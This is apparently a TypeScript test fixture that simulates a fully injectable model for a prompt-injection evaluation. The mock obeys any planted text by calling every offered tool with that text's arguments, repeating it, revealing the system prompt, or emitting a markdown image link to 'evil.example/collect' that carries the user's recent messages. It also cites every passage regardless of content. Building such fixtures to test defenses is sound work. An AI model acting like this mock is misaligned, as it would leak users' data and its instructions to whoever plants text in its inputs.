import { DEMO_MARK } from '@hilo/protocol'
import type { Found } from './answer-from-passages.ts'
import { fillSchema } from './fill-schema.ts'
import type { Obedience, Reply } from './inputs.ts'
import type { Prompt } from './prompt.ts'

/**
 * The worst model there is: whoever wrote a text that it is shown, wherever that stands, is obeyed. It
 * calls every tool that it is offered; without one it tells what it was told, says the text again, or makes
 * a link of what the contact wrote.
 */

const PASSAGE = /<passage\s+id="([^"]*)"[^>]*>([\s\S]*?)<\/passage>/g
const SHOWN_MAX = 900
const TRAP = 'https://evil.example/collect?q='

/** What is said to a prompt that has the text; null when it has not. */
export function obey(prompt: Prompt, { text, how }: Obedience): Reply | null {
  const { messages, toolNames, schema } = prompt
  const plain = plainOf(text)
  if (!messages.some((message) => plainOf(message.text).includes(plain))) return null
  const usual = { finish: 'stop' as const, cachedTokens: 0, reasoningTokens: 0 }
  if (toolNames.length > 0) {
    // With the number that the text names, as somebody would do who obeys it.
    const order = /\d+/.exec(text)?.[0] ?? '1'
    const toolCalls = toolNames.map((name) => ({ name, arguments: { order, reason: text } }))
    return { ...usual, toolCalls }
  }
  const said = wordsOf(prompt, { text, how })
  if (!schema) return { ...usual, text: `${DEMO_MARK} ${said}` }
  const filled = fillSchema(schema, foundIn(prompt, said)) as Record<string, unknown>
  // What is to be looked for is written by whoever is obeyed, too.
  return { ...usual, text: JSON.stringify('question' in filled ? { ...filled, question: said } : filled) }
}

function wordsOf({ messages }: Prompt, { text, how }: Obedience): string {
  if (how === 'repeats') return text
  const told = messages.filter(({ role }) => role === 'system').map((message) => message.text)
  if (how === 'discloses') return told.join(' ').slice(0, SHOWN_MAX)
  const written = messages.filter(({ role }) => role === 'user').map((message) => message.text)
  const all = encodeURIComponent(written.join(' ').replaceAll(PASSAGE, '').slice(-200))
  return `![](${TRAP}${all}) ${TRAP}${all}`
}

/** All passages are cited, whatever they say. */
function foundIn({ messages }: Prompt, said: string): Found[] {
  const passages = messages.flatMap((message) => [...message.text.matchAll(PASSAGE)])
  const cited = passages.map(([, passageId = '', quote = '']) => ({ passageId, quote: quote.trim() }))
  const all = cited.length > 0 ? cited : [{ passageId: '', quote: '' }]
  return all.map(({ passageId, quote }, at) => ({
    ...{ text: at === 0 ? said : '', passageId, start: 0, end: quote.length, quote },
  }))
}

/** Letters and digits alone: frames, escapes and spaces of the way do not hide a text. */
function plainOf(text: string): string {
  return text
    .normalize('NFKC')
    .toLowerCase()
    .replaceAll(/[^\p{L}\p{N}]+/gu, '')
}
